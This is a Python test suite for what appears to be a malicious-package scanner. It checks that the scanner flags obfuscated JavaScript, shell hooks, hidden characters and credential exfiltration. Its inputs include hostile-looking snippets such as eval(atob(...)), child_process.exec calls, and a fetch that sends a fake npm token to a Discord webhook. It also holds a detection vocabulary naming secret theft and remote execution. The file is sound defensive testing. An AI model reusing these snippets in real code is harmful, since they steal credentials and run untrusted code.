import tarfile

import attack_twins as twins
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from picketline.packages import inspect, matcher
from picketline.packages.facts import Mark
from picketline.packages.inspect import flows, gates, kinds, places, regions
from picketline.packages.marks import MARKS

law = settings(max_examples=80, deadline=None, derandomize=True, database=None)
_TELLING = {
    *("runs-decoded", "obfuscated", "hidden-characters", "sends-secret", "fetches-and-runs"),
    *("odd-host", "raw-address", "mines", "wallet", "publishes", "computed-name", "pushed-aside"),
    *("deletes-home", "writes-outside", "scans-secrets", "assistant", "mixed-script", "secret"),
}
_PIECES = st.sampled_from(
    [code.encode() for code, _ in twins.JAVASCRIPT.values()]
    + [b"`${", b"}`", b"/*", b"*/", b"((", b"))", b"\\", b"'", b'"', b"\xff\xfe", b"\x00", b"=>"]
)

_DECODING = [
    *(b"atob", b"'base64'", b'"hex"', b"toString(", b"digest(", b"fromCharCode", b"codePointAt"),
    *(b"inflateRawSync", b"gunzip", b"createDecipheriv", b"unescape", b"decodeURIComponent"),
    *(b".reverse().join", b".reverse ( )", b" ", b"'", b"(", b"x"),
]
TAR = tarfile.TarInfo("a").tobuf()


def _names(marks: tuple[Mark, ...]) -> set[str]:
    return {mark.name for mark in marks}


@pytest.mark.parametrize(("code", "wanted"), twins.JAVASCRIPT.values(), ids=twins.JAVASCRIPT)
def test_an_attack_shows(code: str, wanted: set[str]) -> None:
    """Signals alone lead to a closer look, and it shows what the code does."""
    assert wanted <= _names(inspect.content(code.encode(), "lib/a.js").marks)


@pytest.mark.parametrize(("code", "wanted"), twins.JAVASCRIPT.values(), ids=twins.JAVASCRIPT)
def test_a_hook_s_file_shows_no_less(code: str, wanted: set[str]) -> None:
    """A file that a hook runs shows the same, whatever its name."""
    assert wanted <= _names(inspect.deeper(code.encode(), "bin/setup"))


@pytest.mark.parametrize("code", twins.CLEAN.values(), ids=twins.CLEAN)
def test_what_is_ordinary_shows_nothing_telling(code: str) -> None:
    """Words in comments and texts, and ordinary calls, are no marks."""
    assert not _TELLING & _names(inspect.content(code.encode(), "a.js").marks)
    assert not _TELLING & _names(inspect.deeper(code.encode(), "a.js"))


@pytest.mark.parametrize(("code", "wanted"), twins.SHELL.values(), ids=twins.SHELL)
def test_a_shell_script_shows_what_it_starts(code: str, wanted: set[str]) -> None:
    """Commands of a shell script are marks, in plain view or in front of a pipe."""
    assert wanted <= _names(inspect.deeper(code.encode(), "install.sh"))


@pytest.mark.parametrize("fill", [b"var filler = 1;\n", b"x(1);", b"/* eval */ "])
def test_an_attack_in_a_large_file_shows_at_its_line(fill: bytes) -> None:
    """In a file too large to parse as a whole the suspicious part is, and lines are right."""
    code, wanted = twins.JAVASCRIPT["decoded in a helper"]
    before = fill * (200_000 // len(fill)) + b"\n"
    found = inspect.content(before + code.encode() + b"\n" + before, "dist/a.js")
    assert wanted <= _names(found.marks)
    run = next(mark for mark in found.marks if mark.name == "runs-decoded")
    assert run.line == before.count(b"\n") + 3


def test_a_decoded_layer_is_told() -> None:
    """What stands in an encoded text says how it was decoded: where it stands, where it is run."""
    code, _ = twins.JAVASCRIPT["decoded in a helper"]
    marks = inspect.content(code.encode(), "a.js").marks
    hosts = [mark for mark in marks if mark.name == "odd-host"]
    assert [(mark.line, mark.value, mark.layers) for mark in hosts] == [
        (1, "oast.fun", ("base64",)),
        (3, "oast.fun", ("base64",)),
    ]


def test_a_file_that_cannot_be_parsed_says_so() -> None:
    """Beyond the largest size that is parsed there is a mark, and `unread` tells it."""
    data = b"f(1);\n" * (inspect.LARGEST // 6 + 1)
    marks = inspect.deeper(data, "a.js")
    assert "unparsed" in _names(marks)
    told = inspect.content(b"1", "a.js")
    assert inspect.unread(told) == ""


def test_marks_of_one_name_are_bounded() -> None:
    """A file gets at most eight marks of a name; the last one counts the others."""
    lines = "\n".join(f"require('child_process').exec('a{n}');" for n in range(30))
    found = [mark for mark in inspect.deeper(lines.encode(), "a.js") if mark.name == "executes"]
    assert len(found) == places.MOST
    assert found[-1].value == "child_process.exec and 22 more"


def test_secrets_are_not_shown() -> None:
    """What looks like a credential is starred out in text and value."""
    token = "npm_" + "a1B2c3D4" * 4 + "abcd"
    hook = "https://discord.com/api/webhooks/12345678901/" + "Zx9" * 20
    code = f"const t = '{token}'; fetch('{hook}', {{ body: t }});"
    marks = inspect.deeper(code.encode(), "a.js")
    assert {"secret", "odd-host"} <= _names(marks)
    assert not [mark for mark in marks if token in mark.text or "Zx9Zx9" in mark.text]


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (b"", "a.js", "empty"),
        (b"\x7fELF\x02\x01", "a.js", "elf"),
        (b"MZ\x90\x00" + bytes(56) + b"\x40\x00\x00\x00PE\x00\x00", "a.dll", "pe"),
        (b"MZ/*\x00*/=1;" + bytes(60), "a.js", "javascript"),
        (b"MZ = 1; module.exports = MZ;" + b" " * 80, "a.js", "javascript"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02", "a", "macho"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x41", "a", "class"),
        (b"\xcf\xfa\xed\xfe", "a", "macho"),
        (b"\x00asm\x01", "a.wasm", "wasm"),
        (b"PK\x03\x04", "a.zip", "zip"),
        (b"\x1f\x8b\x08", "a.tgz", "gzip"),
        (TAR, "a", "tar"),
        (b"//" + b" " * 255 + b"ustar\x00", "a.js", "javascript"),
        (b"#!/usr/bin/env node\n1", "cli", "javascript"),
        (b"#!/bin/bash -e\nls", "run", "shell"),
        (b"#!/usr/bin/python3\n", "run", "python"),
        (b"1", "a.cjs", "javascript"),
        (b"1", "a.TS", "javascript"),
        (b"1", "a.d.ts", "text"),
        (b"{}", "package.json", "json"),
        (b"{}", "binding.gyp", "python"),
        (b"a: 1", "w.yml", "yaml"),
        (b"words", "README", "text"),
        (b"a\x00b", "a", "binary"),
        (b"/*\x00*/a", "a.js", "javascript"),
        (b"#!/bin/sh\na", "a.js", "javascript"),
        ((b"G" + bytes(187)) * 3, "a.ts", "binary"),
    ],
)
def test_kinds(data: bytes, name: str, kind: str) -> None:
    """What bytes are is told by their beginning, then by name and first line."""
    assert kinds.kind(data, name) == kind


@pytest.mark.parametrize(
    ("code", "name", "files"),
    [
        (
            "require('./a'); import b from './b.mjs'; export { c } from '../c.js'; import('./d');",
            "i.js",
            ("../c.js", "./a", "./b.mjs", "./d"),
        ),
        ("require('lodash'); import 'react';", "i.js", ()),
        (
            (
                "const cp = require('child_process'), path = require('path');\n"
                "cp.fork('./worker.js'); cp.spawn('node', [path.join(__dirname, 'lib', 's.js')]);\n"
                "cp.execSync('node ./scripts/x.js && sh y.sh');"
            ),
            "i.js",
            ("./lib/s.js", "./scripts/x.js", "./worker.js", "./y.sh"),
        ),
        (
            "#!/bin/sh\nnode setup.mjs\n. ./env.sh\n./bin/run",
            "i",
            ("./bin/run", "./env.sh", "./setup.mjs"),
        ),
        ("{'sources': ['<!(node setup.js)']}", "binding.gyp", ("./setup.js",)),
        ("new Worker(new URL('./w.js', import.meta.url))", "i.mjs", ("./w.js",)),
    ],
)
def test_what_a_script_leads_to(code: str, name: str, files: tuple[str, ...]) -> None:
    """Relative modules, started files and joined paths are told, packages are not."""
    assert inspect.refers(code.encode(), name) == files


def test_what_cannot_run_is_only_hashed() -> None:
    """Declarations and source maps get no signals; hidden characters are still told."""
    code, _ = twins.JAVASCRIPT["eval of atob"]
    for name in ("a.d.ts", "a.js.map"):
        found = inspect.content(code.encode(), name)
        assert (found.signals, found.marks, inspect.role(name)) == ((), (), "inert")
    hidden = "const a = '" + twins.unseen("x" * 40) + "'"
    assert _names(inspect.content(hidden.encode(), "a.d.ts").marks) == {"hidden-characters"}


@law
@given(st.lists(_PIECES | st.binary(max_size=40), max_size=8).map(b"".join))
def test_no_input_raises_and_all_marks_are_known(data: bytes) -> None:
    """Any bytes under any name give marks of the vocabulary, the same twice, shown safely."""
    for name in ("a.js", "a.sh", "a.json", "a.py", "a"):
        found = inspect.content(data, name)
        assert found == inspect.content(data, name)
        marks = (*found.marks, *inspect.deeper(data, name))
        assert not {mark.name for mark in marks} - {*MARKS}
        assert all(len(mark.text) <= 160 and mark.text.isprintable() for mark in marks)
        assert all(len(mark.value) <= 180 for mark in marks)
        assert all(0 <= mark.line <= data.count(b"\n") + 1 for mark in marks)
        assert all(path.startswith(".") for path in inspect.refers(data, name))


@pytest.mark.parametrize(
    "unit",
    [b"(", b"[", b"{", b"a(", b"`${", b"'a'+", b"a=>", b"a.b[", b"eval(", b"function(){", b"!!["],
)
def test_deep_and_long_code_ends(unit: bytes) -> None:
    """Nesting and chains of any depth are read within the bounds."""
    data = b"eval(atob('x'));fetch(" + unit * 20_000
    inspect.deeper(data, "a.js")
    inspect.refers(data, "a.js")


def test_a_constant_cannot_grow_without_bound() -> None:
    """Names that double each other come to nothing rather than to gigabytes."""
    lines = ["const a0 = 'eval(atob(1))' + 'x'.repeat(9);"]
    lines += [f"const a{n} = a{n - 1} + a{n - 1} + a{n - 1};" for n in range(1, 60)]
    inspect.deeper("\n".join([*lines, "eval(a59);"]).encode(), "a.js")


def test_the_rule_set_is_named_by_a_hash() -> None:
    """The key of a cache is 64 hex digits."""
    assert len(bytes.fromhex(inspect.ruleset())) == 32


@law
@given(st.lists(st.sampled_from(_DECODING) | st.binary(max_size=3), max_size=30).map(b"".join))
def test_decoders_are_those_of_a_plain_search(code: bytes) -> None:
    """Where a script decodes is searched for by words, and nothing is lost by that."""
    found = flows.decoders(code, code)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(matcher, "starts", lambda _: lambda _: None)
        assert found == flows.decoders(code, code)


@law
@given(st.lists(st.integers(0, 200_000), max_size=20), st.integers(1, 5000))
def test_lines_are_counted_from_one(places_: list[int], length: int) -> None:
    """A mark's line is the number of line ends before it, and one."""
    data = (b"x" * length + b"\n") * (200_000 // length)
    marks = places.Marks(data)
    for at in places_:
        marks.add("executes", at, str(at))
    lines = {mark.value: mark.line for mark in marks.found()}
    assert lines == {str(at): data.count(b"\n", 0, at) + 1 for at in places_}


@law
@given(
    st.lists(
        st.sampled_from(
            [b"eval(a);", b"fetch(b);", b"//pastebin.com\n", b" " * 3000, b"x;\n" * 900]
        ),
        max_size=40,
    ).map(b"".join)
)
def test_regions_are_those_of_every_window(data: bytes) -> None:
    """Windows are passed over in blocks only where none of them is worth a look."""
    data += b"\n" * (regions.SMALL + 1)
    near = [
        at
        for at in range(0, len(data), 1 << 12)
        if gates.near(frozenset(matcher.signals(data[at : at + (1 << 13)])))
    ]
    found = regions.regions(data)
    assert all(any(start <= at < end for start, end in found) for at in near)
    assert bool(near) == bool(found)


def test_a_decoder_that_is_only_named_in_a_text_is_none() -> None:
    """But for what a computed member names, which is a call of it."""
    plain = b"a('fromCharCode'); String['fromCharCode'](1); String.fromCharCode(2);"
    code = b"a('            '); String['            '](1); String.fromCharCode(2);"
    assert flows.decoders(plain, code) == [(27, "codes"), (53, "codes")]
